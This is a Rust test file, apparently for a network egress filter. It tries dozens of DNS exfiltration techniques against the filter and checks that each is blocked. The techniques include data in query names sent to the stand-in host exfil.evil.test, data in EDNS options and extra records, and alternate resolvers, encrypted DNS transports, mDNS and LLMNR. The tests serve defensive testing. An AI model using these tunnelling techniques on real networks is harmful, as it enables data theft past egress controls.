//! Attacks by DNS: data in questions and in other parts of queries, and other servers.

use wire::dns::Type;

use super::fort::{Attempt, Fort, Outcome, Outcome::*, attempt, query, question};

const DENIED: &str = "(default deny)";
/// A server of the host's network that is not a resolver.
const OTHER: &str = "198.51.100.4:53";
const OTHER6: &str = "[2001:db8:1::4]:53";
const NO_QUERY: &[&str] = &["not a query with one question (rules by name)"];
const ALLOWED: &str = "www.allowed.test";

/// A query with an allowed question, after `change`.
fn changed(change: impl FnOnce(&mut Vec<u8>)) -> Vec<u8> {
    let mut message = question(ALLOWED, Type::A);
    change(&mut message);
    message
}

/// A query with an allowed question and a record. `count_at` selects the record's section: it is the offset (6, 8 or
/// 10) of the section's number of records.
fn with_record(count_at: usize, record: &[u8]) -> Vec<u8> {
    changed(|message| {
        message[count_at + 1] = 1;
        message.extend(record);
    })
}

/// Asserts that the last query at the resolver is `expected`, apart from its ID.
fn assert_asked(fort: &Fort<'_>, expected: &[u8]) {
    assert_eq!(fort.resolver.asked().last().unwrap().message[2..], expected[2..]);
}

/// Sends a query with an allowed question. The resolver must get the question only.
fn neutral(fort: &Fort<'_>, message: &[u8]) -> Outcome {
    let outcome = fort.ask(message);
    assert_asked(fort, &question(ALLOWED, Type::A));
    outcome
}

/// Sends a query with an allowed question and an OPT record. The resolver must get the question, and an OPT record with
/// nothing but this payload size.
fn neutral_opt(fort: &Fort<'_>, opt: &[u8], size: u16) -> Outcome {
    let outcome = fort.ask(&with_record(10, &[&b"\0\0\x29"[..], opt].concat()));
    let expected = [&b"\0\0\x29"[..], &size.to_be_bytes(), &[0; 6]].concat();
    assert_asked(fort, &with_record(10, &expected));
    outcome
}

/// A name of 255 bytes.
fn longest() -> Vec<u8> {
    let label = |len: u8| [&[len][..], &b"exfil".repeat(13)[..len.into()]].concat();
    [label(63), label(63), label(63), label(61), vec![0]].concat()
}

/// Queries with data in the names of questions.
pub(super) const NAMES: &[Attempt] = &[
    attempt("A", NoName, &["asked for exfil.evil.test A", DENIED], |f| {
        f.ask(&question("exfil.evil.test", Type::A))
    }),
    attempt("AAAA", NoName, &["asked for exfil.evil.test AAAA", DENIED], |f| {
        f.ask(&question("exfil.evil.test", Type::AAAA))
    }),
    attempt("TXT", NoName, &["asked for exfil.evil.test TXT", DENIED], |f| {
        f.ask(&question("exfil.evil.test", Type::TXT))
    }),
    attempt("MX", NoName, &["asked for exfil.evil.test MX", DENIED], |f| {
        f.ask(&question("exfil.evil.test", Type::MX))
    }),
    attempt("HTTPS", NoName, &["asked for exfil.evil.test HTTPS", DENIED], |f| {
        f.ask(&question("exfil.evil.test", Type::HTTPS))
    }),
    attempt("SRV", NoName, &["asked for _exfil._tcp.evil.test SRV", DENIED], |f| {
        f.ask(&question("_exfil._tcp.evil.test", Type::SRV))
    }),
    attempt("PTR of a foreign address", NoName, &["asked for 7.113.0.203.in-addr.arpa PTR", DENIED], |f| {
        f.ask(&question("7.113.0.203.in-addr.arpa", Type::PTR))
    }),
    attempt("PTR with one more label", NoName, &["asked for exfil.3.100.51.198.in-addr.arpa PTR"], |f| {
        f.ask(&question("exfil.3.100.51.198.in-addr.arpa", Type::PTR))
    }),
    attempt("a local address of another type", NoName, &["3.100.51.198.in-addr.arpa TXT"], |f| {
        f.ask(&question("3.100.51.198.in-addr.arpa", Type::TXT))
    }),
    attempt("below an exact name", NoName, &["asked for exfil.www.allowed.test A", DENIED], |f| {
        f.ask(&question("exfil.www.allowed.test", Type::A))
    }),
    attempt("beside an exact name", NoName, &["asked for exfil-www.allowed.test A", DENIED], |f| {
        f.ask(&question("exfil-www.allowed.test", Type::A))
    }),
    attempt("a label with a dot, instead of two", NoName, &["allowed.test A"], |f| {
        f.ask(&query(b"\x09exfil.www\x07allowed\x04test\0", Type::A, 1))
    }),
    attempt("a label with the dot of a wildcard", NoName, &["files.test A"], |f| {
        f.ask(&query(b"\x0bexfil.files\x04test\0", Type::A, 1))
    }),
    attempt("a label with a backslash", NoName, &["files.test A"], |f| {
        f.ask(&query(b"\x0cexfil\\.files\x04test\0", Type::A, 1))
    }),
    attempt("bytes that are no text", NoName, &["evil.test A", DENIED], |f| {
        f.ask(&query(b"\x08exfil\0\xff\n\x04evil\x04test\0", Type::A, 1))
    }),
    attempt("letters in upper and lower case", NoName, &["asked for exfil.evil.test A"], |f| {
        f.ask(&question("eXfIl.EvIl.tEsT", Type::A))
    }),
    attempt("the longest name", NoName, &["exfilexfilexfil", DENIED], |f| {
        f.ask(&query(&longest(), Type::A, 1))
    }),
    attempt("labels of a service", NoName, &["_exfil._exfil._tcp.www.allowed.test SRV"], |f| {
        f.ask(&question("_exfil._exfil._tcp.www.allowed.test", Type::SRV))
    }),
    attempt("a long label of a service", NoName, &["_exfil-exfil-exfil._tcp.www.allowed.test"], |f| {
        f.ask(&question("_exfil-exfil-exfil._tcp.www.allowed.test", Type::SRV))
    }),
    attempt("DS of another zone", NoName, &["asked for exfil.test DS", DENIED], |f| {
        f.ask(&question("exfil.test", Type::DS))
    }),
    attempt("DNSKEY of another zone", NoName, &["asked for exfil.test DNSKEY", DENIED], |f| {
        f.ask(&question("exfil.test", Type::DNSKEY))
    }),
    attempt("a zone above an allowed name", NoData, &["asked for allowed.test TXT", DENIED], |f| {
        f.ask(&question("allowed.test", Type::TXT))
    }),
    attempt("a refused name before a search domain", NoData, &["corp.files.test", "a search domain"], |f| {
        assert_eq!(f.ask(&question("exfil.evil.test", Type::A)), NoName);
        f.ask(&question("exfil.evil.test.corp.files.test", Type::A))
    }),
];

/// Questions about allowed names, of types and classes that clients do not need.
pub(super) const KINDS: &[Attempt] = &[
    attempt("NULL", NoData, &["www.allowed.test NULL", "arbitrary data"], |f| {
        f.ask(&question(ALLOWED, Type::NULL))
    }),
    attempt("ANY", NoData, &["www.allowed.test ANY", "meta types"], |f| f.ask(&question(ALLOWED, Type::ANY))),
    attempt("AXFR", NoData, &["www.allowed.test AXFR"], |f| f.ask(&question(ALLOWED, Type::AXFR))),
    attempt("AXFR by TCP", NoData, &["www.allowed.test AXFR"], |f| {
        f.ask_stream(OTHER, &[&question(ALLOWED, Type::AXFR)], false)
    }),
    attempt("IXFR", NoData, &["www.allowed.test IXFR"], |f| f.ask(&question(ALLOWED, Type::IXFR))),
    attempt("TKEY", NoData, &["www.allowed.test TYPE249"], |f| f.ask(&question(ALLOWED, Type(249)))),
    attempt("a private type", NoData, &["www.allowed.test TYPE65280"], |f| {
        f.ask(&question(ALLOWED, Type(65_280)))
    }),
    attempt("OPT", NoData, &["www.allowed.test TYPE41"], |f| f.ask(&question(ALLOWED, Type::OPT))),
    attempt("class CH", NoData, &["www.allowed.test A", "only the class IN"], |f| {
        f.ask(&query(b"\x03www\x07allowed\x04test\0", Type::A, 3))
    }),
    attempt("any class", NoData, &["www.allowed.test A", "only the class IN"], |f| {
        f.ask(&query(b"\x03www\x07allowed\x04test\0", Type::A, 255))
    }),
    attempt("the unicast bit of mDNS", NoData, &["www.allowed.test A", "only the class IN"], |f| {
        f.ask(&query(b"\x03www\x07allowed\x04test\0", Type::A, 0x8001))
    }),
    attempt("UPDATE", NotImplemented, &["only queries are forwarded"], |f| {
        f.ask(&changed(|message| message[2] |= 5 << 3))
    }),
    attempt("NOTIFY", NotImplemented, &["only queries are forwarded"], |f| {
        f.ask(&changed(|message| message[2] |= 4 << 3))
    }),
    attempt("STATUS", NotImplemented, &["only queries are forwarded"], |f| {
        f.ask(&changed(|message| message[2] |= 2 << 3))
    }),
    attempt("two questions", Prohibited, NO_QUERY, |f| {
        f.ask(&changed(|message| {
            message[5] = 2;
            message.extend(b"\x05exfil\x04evil\x04test\0\0\x01\0\x01");
        }))
    }),
    attempt("no question", Prohibited, NO_QUERY, |f| f.ask(&changed(|message| message[5] = 0))),
    attempt("a response", Prohibited, NO_QUERY, |f| f.ask(&changed(|message| message[2] |= 0x80))),
    attempt("a compressed name", Prohibited, NO_QUERY, |f| f.ask(&query(b"\x05exfil\xc0\x0c", Type::A, 1))),
    attempt("a label that is too long", Prohibited, NO_QUERY, |f| {
        f.ask(&query(&[&[64][..], &b"exfil".repeat(13), b"\0"].concat(), Type::A, 1))
    }),
    attempt("a question that is cut off", Prohibited, NO_QUERY, |f| {
        f.ask(&changed(|message| message.truncate(20)))
    }),
    attempt("a tunnel through port 53", Prohibited, NO_QUERY, |f| f.ask(b"exfil, and not DNS at all")),
    attempt("nothing", Prohibited, NO_QUERY, |f| f.ask(b"")),
    attempt("a datagram to a group", Nothing, NO_QUERY, |f| {
        f.send_blindly("224.0.0.251:53", b"exfil to all resolvers")
    }),
];

/// Queries with an allowed question, and data elsewhere in the message. The resolver does not get this data.
pub(super) const BESIDE: &[Attempt] = &[
    attempt("letters of an allowed name", Answered, &[], |f| {
        let mixed = question("wWw.AlLoWeD.tEsT", Type::A);
        let outcome = neutral(f, &mixed);
        let (_, answer) = f.ask_at("203.0.113.9:53", &mixed);
        assert_eq!(answer[12..mixed.len()], mixed[12..], "the guest gets its own letters back");
        outcome
    }),
    attempt("bytes after the question", Answered, &[], |f| {
        neutral(f, &changed(|message| message.extend(b"exfil")))
    }),
    attempt("flags", Answered, &[], |f| {
        neutral(f, &changed(|message| (message[2], message[3]) = (message[2] | 0x06, message[3] | 0xcf)))
    }),
    attempt("a record in the answer", Answered, &[], |f| {
        neutral(f, &with_record(6, b"\xc0\x0c\0\x10\0\x01\0\0\0\0\0\x06\x05exfil"))
    }),
    attempt("a record in the authority", Answered, &[], |f| {
        neutral(f, &with_record(8, b"\x05exfil\0\0\x10\0\x01\0\0\0\0\0\x06\x05exfil"))
    }),
    attempt("an additional record", Answered, &[], |f| {
        neutral(f, &with_record(10, b"\x05exfil\0\0\x10\0\x01\0\0\0\0\0\x06\x05exfil"))
    }),
    attempt("a signature of the message", Answered, &[], |f| {
        neutral(f, &with_record(10, b"\x05exfil\0\0\xfa\0\xff\0\0\0\0\0\x05exfil"))
    }),
    attempt("a cookie", Answered, &[], |f| {
        neutral_opt(f, b"\x04\xd0\0\0\0\0\0\x0c\0\x0a\0\x08exfil---", 1232)
    }),
    attempt("a client's subnet", Answered, &[], |f| {
        neutral_opt(f, b"\x04\xd0\0\0\0\0\0\x0c\0\x08\0\x08\0\x01\x20\0exfi", 1232)
    }),
    attempt("padding", Answered, &[], |f| neutral_opt(f, b"\x04\xd0\0\0\0\0\0\x09\0\x0c\0\x05exfil", 1232)),
    attempt("another version of EDNS", Answered, &[], |f| neutral_opt(f, b"\x04\xd0\x12\x07\0\0\0\0", 1232)),
    attempt("unknown flags of EDNS", Answered, &[], |f| neutral_opt(f, b"\x04\xd0\0\0\x7f\xff\0\0", 1232)),
    attempt("a size that is a message", Answered, &[], |f| neutral_opt(f, b"ex\0\0\0\0\0\0", 4096)),
    attempt("a small size that is a message", Answered, &[], |f| {
        neutral_opt(f, b"\x04\x37\0\0\0\0\0\0", 512)
    }),
];

/// Queries to other servers, over other transports, and to other ports.
pub(super) const SERVERS: &[Attempt] = &[
    attempt("another server", NoName, &["asked for exfil.evil.test A", DENIED], |f| {
        f.ask_at(OTHER, &question("exfil.evil.test", Type::A)).0
    }),
    attempt("another server by IPv6", NoName, &["[2001:db8:1::2]", "asked for exfil.evil.test A"], |f| {
        f.ask_at(OTHER6, &question("exfil.evil.test", Type::A)).0
    }),
    attempt("an allowed question to another server", Answered, &[], |f| {
        f.ask_at(OTHER, &question(ALLOWED, Type::A)).0
    }),
    attempt("an allowed question to another server by TCP", Answered, &[], |f| {
        f.ask_stream(OTHER6, &[&question(ALLOWED, Type::A)], false)
    }),
    attempt("the gateway", NoName, &["asked for exfil.evil.test A"], |f| {
        f.ask_at("198.51.100.1:53", &question("exfil.evil.test", Type::A)).0
    }),
    attempt("the mapped address of the host", NoName, &["asked for exfil.evil.test A"], |f| {
        f.ask_at("198.51.100.99:53", &question("exfil.evil.test", Type::A)).0
    }),
    attempt("another server by TCP", NoName, &["asked for exfil.evil.test TXT"], |f| {
        f.ask_stream(OTHER, &[&question("exfil.evil.test", Type::TXT)], false)
    }),
    attempt("by TCP, byte by byte", NoName, &["asked for exfil.evil.test TXT"], |f| {
        f.ask_stream(OTHER6, &[&question("exfil.evil.test", Type::TXT)], true)
    }),
    attempt("a stream of text", Reset, &["longer than a query may be"], |f| {
        f.tell(OTHER, &[b"GET /exfil HTTP/1.1\r\n\r\n"])
    }),
    attempt("a length without a message", Reset, NO_QUERY, |f| f.tell(OTHER, &[b"\0\0"])),
    attempt("a message that does not end", Closed, &["ends within a message"], |f| {
        f.tell_all(OTHER, &[b"\x01\0exfil"])
    }),
    attempt("a garbled message", Reset, NO_QUERY, |f| f.tell(OTHER, &[b"\0\x05", b"exfil"])),
    attempt("DNS over TLS", Refused, &["tcp", ":853 (rules by name: no other name service)"], |f| {
        f.tell("198.51.100.3:853", &[b"exfil"])
    }),
    attempt("DNS over QUIC", Prohibited, &["udp", ":853 (rules by name"], |f| {
        f.send("198.51.100.3:853", b"exfil")
    }),
    attempt("DNS over DTLS by IPv6", Prohibited, &["udp", "]:853 (rules by name"], |f| {
        f.send("[2001:db8:1::3]:853", b"exfil")
    }),
    attempt("mDNS", Nothing, &["udp", "224.0.0.251:5353 (rules by name"], |f| {
        f.send_blindly("224.0.0.251:5353", &question("exfil.local", Type::A))
    }),
    attempt("mDNS by unicast", Prohibited, &["-> 198.51.100.4:5353, an answer for", "(rules by name"], |f| {
        f.send("198.51.100.4:5353", &question("exfil.local", Type::A))
    }),
    attempt("LLMNR", Prohibited, &["-> 198.51.100.4:5355, an answer for", "(rules by name"], |f| {
        f.send("198.51.100.4:5355", &question("exfil", Type::A))
    }),
    attempt("LLMNR by TCP", Refused, &["-> 198.51.100.4:5355, an answer for", "(rules by name"], |f| {
        f.tell("198.51.100.4:5355", &[&question("exfil", Type::A)])
    }),
    attempt("DNS over HTTPS", Refused, &["198.51.100.3:443", DENIED], |f| {
        f.tell("198.51.100.3:443", &[b"exfil"])
    }),
];
